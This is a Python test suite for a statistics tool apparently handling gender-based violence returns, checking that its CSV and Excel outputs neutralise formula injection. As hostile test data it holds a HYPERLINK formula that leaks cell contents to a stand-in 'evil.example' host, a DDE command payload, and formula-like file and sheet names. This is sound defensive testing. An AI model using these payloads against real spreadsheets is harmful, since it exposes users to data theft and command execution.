"""No formula injection anywhere: every CSV and workbook the tool writes, end to end on a
demo year (Talas oblast, 2024) whose returns, names and typed text are hostile.

The scan below is independent of gbvstats.safe: a CSV field is dangerous when it starts
with = + - @ tab or CR (OWASP) and is not a plain number; a workbook is dangerous when any
of its sheets holds a formula cell (`<f>`), since none of the hostile originals has one.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from templates_helpers import convert, soffice
from typer.testing import CliRunner

from gbvstats.cli import app
from gbvstats.demo.generate import generate
from gbvstats.safe import csv_frame, is_risky, save_workbook, text_cells

TALAS = "41707000000000"
UNIT = "41707215000000"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C4,"click me")'
DDE = "=cmd|' /C calc'!A0"
# file names a user could give: each starts like a formula
HOSTILE_NAMES = ("=1+2.xlsx", "@SUM(1+1).xlsx", "-2+3.xlsx", "+1+1.xlsx")
DANGER = tuple("=+-@\t\r")
NUMBER = re.compile(r"^[+-]?(\d[\d ]*([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?$")


def dangerous(field: str) -> bool:
    text = field.strip(" ")
    return bool(text) and (field[0] in DANGER or text[0] in DANGER) and not NUMBER.match(text) \
        and text != "-"


def csv_problems(text: str, where: str) -> list[str]:
    return [f"{where}: row {i} field {field!r}"
            for i, row in enumerate(csv.reader(io.StringIO(text)))
            for field in row if dangerous(field)]


def formula_cells(path: Path) -> list[str]:
    """`<f>` elements in any worksheet of an .xlsx: live formulas."""
    with zipfile.ZipFile(path) as z:
        return [f"{path.name}:{name}" for name in z.namelist()
                if name.startswith("xl/worksheets/") and re.search(rb"<(\w+:)?f[ >]", z.read(name))]


def text(cell, value: str) -> None:
    cell.value = value
    cell.data_type = "s"  # typed as text by the agency, not a formula


def hostile_copy(src: Path, dst: Path) -> Path:
    """The agency's return with formula-like text typed everywhere text goes: the contact
    and phone header fields, a line label, and an extra sheet named like a formula."""
    wb = load_workbook(src)
    for name, value in (("gbv_contact", HYPERLINK), ("gbv_phone", "+996 312 66 24 31")):
        sheet, ref = next(wb.defined_names[name].destinations)
        text(wb[sheet][ref.replace("$", "")], value)
    text(wb["T1"]["A1"], DDE)
    extra = wb.create_sheet("=1+2")
    text(extra["A1"], "@SUM(1+1)*cmd|' /C calc'!A0")
    extra["B1"] = 7
    dst.parent.mkdir(parents=True, exist_ok=True)
    wb.save(dst)
    return dst


@pytest.fixture(scope="module")
def world(tmp_path_factory, registry):
    root = tmp_path_factory.mktemp("hostile")
    demo = root / "demo"
    entries = generate([2024], demo, 2018, registry, oblasts=[TALAS], defects=False)
    hostile = root / "hostile"
    originals = sorted((demo / "2024" / "MOI").glob(f"MOI-FV_v2_{UNIT}_*.xlsx"))
    assert len(originals) == len(HOSTILE_NAMES)
    for src, name in zip(originals, HOSTILE_NAMES, strict=True):
        hostile_copy(src, hostile / name)
        src.unlink()  # the hostile copy is what this unit sends
    others = [(demo / e.file, e.agency) for e in entries if (demo / e.file).exists()]
    return root, hostile, others


def run(*args: str, code: int = 0) -> str:
    result = CliRunner().invoke(app, list(args), env={"GBVSTATS_LANG": "en"})
    assert "Traceback" not in result.output
    assert result.exit_code == code, f"{args}: {result.exit_code}\n{result.output[-2000:]}"
    return result.stdout


@pytest.fixture(scope="module")
def written(world, tmp_path_factory):
    """Run every command that writes a CSV or a workbook; return (files, csv outputs)."""
    root, hostile, others = world
    out = tmp_path_factory.mktemp("outputs")
    wh = ["--warehouse", str(out / "wh" / "w.duckdb")]
    stdout: dict[str, str] = {}
    hostile_files = sorted(hostile.glob("*.xlsx"))
    # feedback for .xlsx, and for .xls and .ods copies (their values are converted)
    copies = []
    if soffice():
        copies = [convert(hostile / "=1+2.xlsx", out / "conv", fmt) for fmt in ("xls", "ods")]
    run("validate", *map(str, hostile_files + copies), "--feedback", str(out / "feedback"))
    for agency in sorted({a for _, a in others}):
        run("submit", *[str(p) for p, a in others if a == agency], "--agency", agency, *wh,
            "--by", f"{DDE} ({agency})", "--json")
    submitted = run("submit", *map(str, hostile_files), "--agency", "MOI", *wh, "--by", DDE, "--json")
    assert '"accepted_with_warnings"' in submitted  # the extra sheet is a warning, not a refusal
    run("explain", "1", "MOI-FV2-09", "--text", HYPERLINK, "--by", "@attacker", *wh)
    run("consolidate", "--year", "2024", *wh, "--json")
    for name, query in {
        "submissions": "SELECT * FROM submissions ORDER BY submission_id",
        "audit": "SELECT * FROM audit_log ORDER BY event_id",
        "explanations": "SELECT * FROM explanations",
        "findings": "SELECT * FROM findings",
        "negative": "SELECT -5 AS n, -2.5 AS x, '=1+2' AS \"=label\"",
    }.items():
        stdout[f"sql {name}"] = run("sql", query, "--csv", *wh)
    stdout["completeness"] = run("completeness", "--year", "2024", "--csv", *wh)
    stdout["completeness detail"] = run("completeness", "--year", "2024", "--detail", "--csv", *wh)
    stdout["trace"] = run("trace", "ind01_family_violence", "--year", "2024", "--csv", *wh)
    run("publish", "--year", "2024", "--out", str(out / "published"), *wh, "--lang", "ru,ky,en",
        "--provisional")  # a few returns: the publication gate blocks, publish provisionally
    run("dictionary", "--out", str(out / "dictionary.md"), *wh)
    run("template", "MOI-FV", "--period", "2024-Q1", "--unit", UNIT, "-o", str(out / "template.xlsx"))
    return out, stdout


def test_hostile_text_reaches_the_outputs_as_text(written):
    """The scan below is meaningful: the hostile text is there, neutralised."""
    out, stdout = written
    submissions = list(csv.DictReader(io.StringIO(stdout["sql submissions"])))
    assert {"'" + n for n in HOSTILE_NAMES} <= {r["file_name"] for r in submissions}
    assert any(r["submitted_by"] == "'" + DDE for r in submissions)
    explanations = list(csv.DictReader(io.StringIO(stdout["sql explanations"])))
    assert [(r["text"], r["author"]) for r in explanations] == [("'" + HYPERLINK, "'@attacker")]
    findings = list(csv.DictReader(io.StringIO(stdout["sql findings"])))
    assert "'=1+2" in {r["sheet"] for r in findings}
    traced = list(csv.DictReader(io.StringIO(stdout["trace"])))
    assert "'=1+2.xlsx" in {r["file_name"] for r in traced}
    negative = list(csv.reader(io.StringIO(stdout["sql negative"])))
    assert negative == [["n", "x", "'=label"], ["-5", "-2.5", "'=1+2"]]  # numbers stay numbers
    name = "=1+2.xlsx.feedback.xlsx" if soffice() else "=1+2.feedback.xlsx"  # beside its copies
    feedback = load_workbook(out / "feedback" / name)
    listed = [c for row in feedback.worksheets[0].iter_rows() for c in row if c.value == "=1+2"]
    assert listed and all(c.data_type == "s" for c in listed)  # the sheet name, as text
    assert any(c.value == DDE for row in feedback["T1"].iter_rows() for c in row)


def test_no_written_file_has_a_formula_or_a_dangerous_csv_field(written):
    out, stdout = written
    problems = []
    for name, text_out in stdout.items():
        problems += csv_problems(text_out, name)
    files = sorted(p for p in out.rglob("*") if p.is_file() and "lo-profile" not in p.parts
                   and p.parent.name != "conv")
    kinds = {p.suffix for p in files}
    assert {".csv", ".xlsx", ".parquet"} <= kinds, kinds
    for path in files:
        if path.suffix == ".csv":
            problems += csv_problems(path.read_text(encoding="utf-8"), path.name)
        elif path.suffix == ".xlsx":
            problems += formula_cells(path)
    feedback = sorted((out / "feedback").glob("*.xlsx"))
    assert len(feedback) == len(HOSTILE_NAMES) + (2 if soffice() else 0)
    assert problems == []


@pytest.mark.skipif(not soffice(), reason="LibreOffice converts the .xls and .ods copies")
def test_xls_and_ods_feedback_copies_keep_text_as_text(written):
    """Their values are copied into a new workbook: formula-like text stays text."""
    out, _ = written
    for suffix in ("xls", "ods"):
        wb = load_workbook(out / "feedback" / f"=1+2.{suffix}.feedback.xlsx")
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
                 if isinstance(c.value, str) and c.value.startswith(("=", "@"))]
        assert {HYPERLINK, DDE} <= {c.value for c in cells}, suffix
        assert all(c.data_type == "s" for c in cells), suffix


# --- the shared module itself ----------------------------------------------------------

@pytest.mark.parametrize(("value", "risky"), [
    ("=1+2", True), ("+1+1", True), ("-2+3", True), ("@SUM(A1)", True), ("\t=1", True),
    ("\r=1", True), (" =1", True), ("\uff1d1+2", True), ("+7 (312) 66-24-31", True), ("+996 312 66 24 31", False),
    ("-5", False), ("-2.5", False), ("+3", False), ("1e3", False), ("-1,5", False),
    ("-", False), ("", False), ("Асанова", False), ("a=b", False), ("41707215000000", False),
])
def test_what_is_risky(value, risky):
    assert is_risky(value) is risky


def test_csv_frame_keeps_numbers_and_neutralises_text():
    import pandas as pd

    frame = pd.DataFrame({"n": [-5, 3], "x": [-2.5, None], "t": ["=1+2", "-"],
                          "mixed": [-1, "@x"], "=h": ["ok", None]})
    safe = csv_frame(frame)
    assert list(safe.columns) == ["n", "x", "t", "mixed", "'=h"]
    assert safe["n"].tolist() == [-5, 3] and safe["n"].dtype == frame["n"].dtype
    assert safe["t"].tolist() == ["'=1+2", "-"]
    assert safe["mixed"].tolist() == [-1, "'@x"]
    assert frame["t"].tolist() == ["=1+2", "-"]  # the caller's frame is left alone


def test_workbook_strings_are_text_but_loaded_formulas_may_be_kept(tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws["A1"] = "=SUM(1,2)"  # the user's own formula, loaded as such
    own = {(ws.title, "A1")}
    ws["A2"] = HYPERLINK  # text the tool copies: openpyxl would make it a formula
    ws.append(["=1+2", -3, "@x"])
    assert ws["A2"].data_type == "f"
    assert text_cells(wb, own) == 2
    save_workbook(wb, tmp_path / "t.xlsx", own)
    assert formula_cells(tmp_path / "t.xlsx") == ["t.xlsx:xl/worksheets/sheet1.xml"]
    back = load_workbook(tmp_path / "t.xlsx")
    assert [(c.value, c.data_type) for c in back.active["A"]] == [
        ("=SUM(1,2)", "f"), (HYPERLINK, "s"), ("=1+2", "s")]
    assert back.active["B3"].value == -3


def test_rich_markup_in_user_text_is_shown_as_text():
    import pandas as pd
    from rich.console import Console

    from gbvstats.views import frame_table

    console = Console(record=True, width=200)
    console.print(frame_table(pd.DataFrame({"submitted_by": ["[bold red]boss[/] [link=http://x]y[/link]"]})))
    assert "[bold red]boss[/] [link=http://x]y[/link]" in console.export_text()
